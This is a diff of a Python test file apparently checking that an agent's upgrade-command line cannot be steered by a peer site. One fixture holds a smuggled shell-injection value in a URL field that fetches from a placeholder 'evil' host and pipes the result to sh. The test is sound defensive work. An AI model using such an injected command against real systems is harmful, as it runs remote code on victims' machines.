@@ -6,8 +6,11 @@ from pathlib import Path
 import pytest
 
 from peer_agent import __version__
+from peer_agent.protocol import releases
 from peer_agent.protocol.messages import PROTOCOL
 from peer_agent.site.facts import Offer, difference, is_newer
+
+SITE = "https://a.example"
 
 
 @pytest.mark.parametrize(
@@ -25,13 +28,22 @@ def test_what_is_no_version_is_not_newer() -> None:
 
 
 def test_a_site_that_is_older_is_nothing_to_speak_of() -> None:
-    assert difference(Offer("0.0.1", PROTOCOL)) is None
-    assert difference(Offer(__version__, PROTOCOL)) is None
+    assert difference(Offer("0.0.1", PROTOCOL), SITE) is None
+    assert difference(Offer(__version__, PROTOCOL), SITE) is None
 
 
 def test_the_line_is_for_the_tool_that_installed_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    offer = Offer("9.0.0", PROTOCOL, "pip install it", "uv tool install --reinstall it")
+    offer = Offer(
+        "9.0.0",
+        PROTOCOL,
+        url="https://x;curl${IFS}evil|sh/a.whl",
+        upgrade_pip="pip install it",
+        upgrade_uv="uv tool install --reinstall it",
+    )
     monkeypatch.setattr(sys, "prefix", str(tmp_path))
-    assert offer.line == f"{sys.executable} -m pip install it"
+    assert offer.line(SITE) == f"{sys.executable} -m pip install it"
     (tmp_path / "uv-receipt.toml").touch()
-    assert offer.line == "uv tool install --reinstall it"
+    assert offer.line(SITE) == "uv tool install --reinstall it"
+    monkeypatch.setattr(releases, "KEYS", tmp_path / "keys.txt")
+    (tmp_path / "keys.txt").write_text("ab" * 32)
+    assert offer.line(SITE) == f"manyhands upgrade {SITE}", "whatever the site says"
